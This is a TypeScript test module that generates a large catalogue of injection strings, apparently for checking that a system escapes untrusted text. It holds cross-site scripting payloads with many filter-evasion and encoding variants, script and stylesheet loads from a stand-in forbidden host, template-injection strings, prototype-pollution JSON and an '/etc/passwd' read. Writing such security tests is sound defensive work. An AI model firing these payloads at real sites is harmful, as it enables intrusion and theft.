import { forbiddenHost, sentinel } from "./browser.ts";
import { hostileTexts } from "./hostile.ts";

/** A text that would act if it were taken for anything but a text. */
export interface Injection {
  readonly family: string;
  readonly text: string;
}

/** Ways to be seen when it runs: a dialog, a global, a word on the console. */
const actions = ["alert(1)", `window.${sentinel}=1`, `console.log('${sentinel}')`];
const there = `//${forbiddenHost}`;

/** What ends the places in which a text can stand. */
const closers = [
  "",
  "</p>",
  "</script>",
  "</style>",
  "</title>",
  "</pre></details></section>",
  "</td></tr></tbody></table>",
  "</text></svg>",
  "</desc></title></svg>",
  "</textarea></noscript></template></select>",
  "-->",
  "]]>",
  '">',
  "'>",
];

/** Elements that run something, or ask for something, by being there. */
const elements: readonly ((js: string) => string)[] = [
  (js) => `<script>${js}</script>`,
  (js) => `<ScRiPt/x>${js}</sCrIpT >`,
  (js) => `<img src=x onerror="${js}">`,
  (js) => `<img/src=x/onerror=${js}>`,
  (js) => `<svg onload="${js}">`,
  (js) => `<iframe srcdoc="<script>parent.${js}</script>"></iframe>`,
  (js) => `<iframe src="javascript:parent.${js}"></iframe>`,
  (js) => `<details open ontoggle="${js}">`,
  (js) => `<video><source onerror="${js}"></video>`,
  (js) => `<input autofocus onfocus="${js}">`,
  (js) => `<style>@keyframes k{}*{animation:k}</style><b onanimationstart="${js}">`,
  (js) => `<marquee onstart="${js}"><button onclick="${js}">`,
  () => `<link rel=stylesheet href=${there}/l.css>`,
  () => `<script src=${there}/s.js></script>`,
];

/** What ends an attribute and begins another. */
const quotes = ['"', "'", "`", " ", '"/', '"\n', "&quot;"];
const attributes: readonly ((js: string) => string)[] = [
  (js) => `onmouseover="${js}" x="`,
  (js) => `onfocus='${js}' autofocus tabindex=0 x='`,
  (js) => `onclick=${js} `,
  (js) => `onload=${js} onerror=${js} src=x `,
  () => `style="background:url(${there}/a)" `,
  () => `href="javascript:alert(1)" target=_blank ping=${there}/p `,
];

const urls = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "java\tscript:alert(1)",
  "java\nscript:alert(1)",
  "\u0001javascript:alert(1)",
  " javascript:alert(1)",
  "javascript&colon;alert(1)",
  "&#106;avascript:alert(1)",
  "javascript://%0aalert(1)",
  "vbscript:msgbox(1)",
  "data:text/html,<script>alert(1)</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
  "blob:null/alert(1)",
  "filesystem:http:/alert(1)",
  `${there}/a`,
  `https:${there}/a?b=<script>`,
  `\\\\${forbiddenHost}\\a`,
  `http:${there}@evil/`,
  "../../../../etc/passwd#<img src=x onerror=alert(1)>",
];

const styles = [
  `url(${there}/c)`,
  `"}*{background:url(${there}/c)}`,
  `}@import '${there}/c.css';`,
  `}@font-face{font-family:x;src:url(${there}/f)}*{font-family:x`,
  `*/}*{background:url(${there}/c)}/*`,
  `;background:url(${there}/c)`,
  `\\;background:url(${there}/c)`,
  "expression(alert(1))",
  "behavior:url(#default#time2)",
  "-moz-binding:url(data:text/xml,x)",
  `</style><link rel=stylesheet href=${there}/c>`,
  `</style><style>@import url(${there}/c)</style>`,
  `</style><style>body{background:url(${there}/c)}</style>`,
  `<b style="position:fixed;inset:0;background:url(${there}/c)">`,
  `<div style=background:url(${there}/c)>`,
  "\\3c script\\3e alert(1)",
  `:has(*){--a:url(${there}/c)}`,
];

const drawings: readonly ((js: string) => string)[] = [
  (js) => `<svg><script>${js}</script></svg>`,
  (js) => `<svg><script href="data:,${js}"/></svg>`,
  (js) => `<svg><animate onbegin="${js}" attributeName=x dur=1s>`,
  (js) => `<svg><set onbegin="${js}" attributeName=x to=1>`,
  (js) => `<svg><a href="javascript:${js}"><text y=20>x</text></a>`,
  (js) => `<svg><a><animate attributeName=href values="javascript:${js}"/><text y=9>x</text></a>`,
  (js) => `</text><script>${js}</script><text>`,
  (js) => `</text><image href=x onerror="${js}"/><text>`,
  (js) => `<svg><foreignObject><body onload="${js}"><img src=x onerror="${js}"></foreignObject>`,
  () => `</text><image href="${there}/i.png"/><text>`,
  () => `</text><use href="${there}/u.svg#a"/><text>`,
  () => `<svg><filter><feImage href="${there}/f"/></filter></svg>`,
  (js) => `</desc><style>*{fill:url(${there}/x)}</style><script>${js}</script><desc>`,
  (js) => `<svg><style><img src=x onerror="${js}"></style>`,
  (js) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${js}&gt;">`,
  (js) => `<svg><title><style><img src="</style><img src=x onerror='${js}'>"></title>`,
];

const documents = [
  '"}</script><script>alert(1)</script>',
  '","__proto__":{"x":1},"y":"',
  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
  "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
  "<!--<script>alert(1)//",
  "</script\n><img src=x onerror=alert(1)>",
  "</script/x><svg onload=alert(1)>",
  "\\",
  '\\"',
  "\\\\u2028",
  '"]}]}]};alert(1)//',
  "');alert(1);//",
  '");alert(1);//',
  "`;alert(1);//",
  '{"constructor":{"prototype":{"x":1}}}',
  "NaN,Infinity,undefined",
  "[object Object]",
  "a\u2028alert(1)\u2029b",
];

const templates = [
  "\u0024{alert(1)}",
  "{{constructor.constructor('alert(1)')()}}",
  "{{7*7}}{{=<% %>=}}<% alert(1) %>",
  "<%= alert(1) %>",
  "<%- include('/etc/passwd') %>",
  "#{alert(1)}",
  "{% raw %}<script>alert(1)</script>{% endraw %}",
  "{{{<img src=x onerror=alert(1)>}}}",
  "[[\u0024{alert(1)}]]",
  "@{alert(1)}",
  "*{alert(1)}",
  "<template><script>alert(1)</script></template>",
  "<x-y is=z onclick=alert(1)>",
  "v-html=\"'<img src=x onerror=alert(1)>'\"",
  "ng-app ng-csp ng-click=$event.view.alert(1)",
  "<slot name=x onslotchange=alert(1)>",
  "$& $` $' $1 $<name> $$",
];

/** Escaped once, so that what takes escapes away again would let it out. */
const encoded = [
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&amp;lt;script&amp;gt;",
  "&#60;img src=x onerror=alert(1)&#62;",
  "&#x3C;img src=x onerror=alert(1)&#x3e;",
  "&#0000060img src=x onerror=alert(1)>",
  "&lt<script&gt",
  "&newline;&tab;&lpar;&nbsp",
  "%3Cscript%3Ealert(1)%3C/script%3E",
  "%253Cscript%253E",
  "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
  "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
  "\u02c2script\u02c3 \u2039script\u203a \u300aimg\u300b",
  "<\u0000script>alert(1)</script>",
  "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
  "<scr\u200bipt>alert(1)</scr\u200bipt>",
  "<\u00adscript>alert(1)</script>",
  "\u001b[<\u001b[31mscript>alert(1)</script>",
  "\u001b]0;<script>alert(1)</script>",
  "<\u009bmscript>alert(1)</script>",
  "\ud83c<script>alert(1)</script>",
];

/** In hexadecimal: controls of C1, format characters and bidi marks, separators, tags, halves of pairs, and none at all. */
const otherCharacters =
  "7f 80 85 90 9b 9c 9d 9f ad 61c 180e 200b 200c 200d 200e 200f 2028 2029 202a 202b 202c 202d 202e " +
  "2060 2066 2067 2068 2069 feff fff9 fffe ffff 1d173 e0001 e0041 e007f 10ffff d800 dfff";
/** Words with a control, or with what reorders, hides or joins, in between. */
const characters = [
  ...Array.from({ length: 32 }, (_, code) => code).filter((code) => code !== 9 && code !== 10),
  ...otherCharacters.split(" ").map((code) => Number.parseInt(code, 16)),
].map((code) => `before${String.fromCodePoint(code)}<i>after`);

/** All of them; the families cover the places in which a text of the system under test can stand, and some that it can't. */
export const injections: readonly Injection[] = distinct([
  ...closers.flatMap((closer, row) =>
    family(`script after ${JSON.stringify(closer)}`, following(closer, elements, row)),
  ),
  ...quotes.flatMap((quote, row) =>
    family(`attribute after ${JSON.stringify(quote)}`, following(quote, attributes, row)),
  ),
  ...family("URL", urls),
  ...family("CSS", styles),
  ...family("SVG", drawings.map(acting)),
  ...family("JSON", documents),
  ...family("template", templates),
  ...family("encoded", encoded),
  ...family("character", characters),
  ...family("well known", hostileTexts),
]);

function family(name: string, texts: readonly string[]): readonly Injection[] {
  return texts.map((text) => ({ family: name, text }));
}

/** Each of them behind a text that ends what it stands in. */
function following(before: string, each: readonly ((js: string) => string)[], row: number): readonly string[] {
  return each.map((make, column) => before + acting(make, row + column));
}

function acting(make: (js: string) => string, index: number): string {
  return make(actions[index % actions.length]!);
}

/** The first of those that are the same. */
function distinct(all: readonly Injection[]): readonly Injection[] {
  return [...new Map(all.toReversed().map((one) => [one.text, one])).values()].toReversed();
}
